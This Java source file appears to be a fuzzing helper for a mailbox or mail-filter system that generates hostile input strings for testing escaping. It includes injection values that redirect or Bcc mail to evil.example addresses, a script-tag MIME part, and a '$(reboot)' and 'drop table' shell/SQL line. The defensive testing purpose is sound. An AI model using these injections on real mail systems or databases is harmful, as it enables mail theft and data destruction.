package fr.balise.mailbox.lifecycle;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/** Texts that somebody might type to make the system say, or do, something else: each class makes as many as are asked for. */
public final class Hostile {
    private Hostile() {}

    public static Map<String, Function<Random, String>> classes() {
        var classes = new LinkedHashMap<String, Function<Random, String>>();
        classes.put("quote then command", r -> "x\"; discard; " + word(r));
        classes.put("quote then redirect", r -> "\"; redirect \"" + word(r) + "@evil.example\"; #");
        classes.put("backslash before the end", r -> word(r) + "\\");
        classes.put("backslash and quote", r -> "\\\"" + word(r) + "\\\\\"; stop;");
        classes.put("many backslashes", r -> "\\".repeat(1 + r.nextInt(20)) + "\"; stop;");
        classes.put("multi-line end", r -> word(r) + "\n.\n; discard;");
        classes.put("multi-line begin", r -> "text:\n" + word(r) + "\n.\n");
        classes.put("dot stuffing", r -> ".\n..\n..." + word(r));
        classes.put("header injection", r -> "Bcc: " + word(r) + "@evil.example\n\nhello");
        classes.put("header injection with CR", r -> word(r) + "\r\nBcc: victim@evil.example\r\n\r\nx");
        classes.put("bare CR", r -> word(r) + "\rSubject: " + word(r) + "\r");
        classes.put("mime boundary", r -> "--" + word(r) + "\nContent-Type: text/html\n\n<script>alert(1)</script>");
        classes.put("comment", r -> "/* " + word(r) + " */ # " + word(r) + "\n# \"");
        classes.put("variables", r -> "${" + word(r) + "} ${hex: 22 3b} ${unicode: 0022}");
        classes.put("quoted-printable", r -> "=22=3B=\n=0D=0A=" + word(r) + "=");
        classes.put("encoded word", r -> "=?utf-8?q?=22;_" + word(r) + "?= =?utf-8?b?Ig==?=");
        classes.put("control characters", r -> word(r) + (char) (1 + r.nextInt(31)) + "\u007f" + word(r));
        classes.put("NUL", r -> word(r) + "\0\"; discard;");
        classes.put("other line ends", r -> word(r) + "\u2028\"\u2029;\u0085\u000b\f stop;");
        classes.put("right to left", r -> "\u202e\"" + word(r) + "\u202c \u200f;");
        classes.put("astral and combining", r -> "\ud83d\udc80\u0301\"" + word(r) + "\ud83c\uddeb\ud83c\uddf7");
        classes.put("lone surrogate", r -> word(r) + (char) (0xd800 + r.nextInt(0x800)) + "\"");
        classes.put("very long line", r -> (word(r) + "\" ").repeat(100));
        classes.put("message format", r -> "{0} '{'1} {2,choice,0#a|1<b} " + word(r) + " '");
        classes.put("shell and SQL", r -> "$(reboot) `id` '; drop table mailbox.hosted; -- " + word(r));
        classes.put("any character", Hostile::any);
        return classes;
    }

    private static String word(Random random) {
        var word = new StringBuilder();
        for (int i = 1 + random.nextInt(8); i > 0; i--) word.append((char) ('a' + random.nextInt(26)));
        return word.toString();
    }

    private static String any(Random random) {
        var text = new StringBuilder("x");
        for (int i = 1 + random.nextInt(200); i > 0; i--)
            text.append((char) (random.nextInt(4) == 0 ? random.nextInt(0x10000) : random.nextInt(0x80)));
        return text.append('x').toString();
    }
}
